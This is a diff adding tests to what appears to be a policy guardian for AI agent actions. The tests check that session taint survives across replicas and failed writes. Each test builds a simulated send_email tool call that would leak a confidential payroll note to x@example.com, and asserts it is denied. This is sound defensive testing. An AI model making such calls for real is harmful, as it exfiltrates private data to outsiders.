@@ -227,3 +227,48 @@ async def test_an_export_that_was_not_stored_makes_the_next_one_whole() -> None:
     assert after.whole  # stands for the lost record too
     facts = SessionFacts.from_records([after.record])
     assert facts.untrusted_seen
+
+
+def _leak(body: str) -> aos.AosRequest:
+    return steps(turn="turn_2").tool_call_request(
+        "c9", "send_email", {"to": "x@example.com", "body": body}
+    )
+
+
+async def test_a_hosted_session_another_replica_wrote_meanwhile_is_taken_back() -> None:
+    replica_a, replica_b, stored = PolicyGuardian(default_policy()), None, Stored()
+    await replica_a.check(steps().message("user", "hello"))
+    stored.write(replica_a.export_session("sess_1"))
+    # The next turn runs on replica B: it reads a confidential note.
+    replica_b = PolicyGuardian(default_policy())
+    replica_b.import_session("sess_1", stored.records)
+    await replica_b.check(steps().knowledge_retrieval("payroll", None, confidential_note()))
+    stored.write(replica_b.export_session("sess_1"))
+    # The turn after runs on A again, which still holds the session as it was: the newer
+    # records win (before, A kept its copy and let the note out).
+    replica_a.import_session("sess_1", stored.records)
+    note = confidential_note()[0].content
+    assert (await replica_a.check(_leak(note))).decision == "deny"
+
+
+async def test_facts_that_know_more_than_the_store_keep_both_and_store_it_whole() -> None:
+    guardian, other, stored = (
+        PolicyGuardian(default_policy()),
+        PolicyGuardian(default_policy()),
+        Stored(),
+    )
+    await other.check(steps().message("user", "pay GB82WEST12345698765432"))
+    stored.write(other.export_session("sess_1"))
+    await guardian.check(steps().knowledge_retrieval("payroll", None, confidential_note()))
+    guardian.memory_not_stored("sess_1")  # as after a write that failed
+    guardian.import_session("sess_1", stored.records)
+    note = confidential_note()[0].content
+    assert (await guardian.check(_leak(note))).decision == "deny"  # its own taint kept
+    exported = guardian.export_session("sess_1")
+    assert exported is not None
+    assert exported.whole  # the store gets both
+    facts = SessionFacts.from_records([exported.record])
+    assert len(facts.private_lines) > 0  # the note's prints
+    theirs = other._hosted.get("sess_1")
+    assert theirs is not None
+    assert set(theirs.provenance.trusted.values()) <= set(facts.provenance.trusted.values())
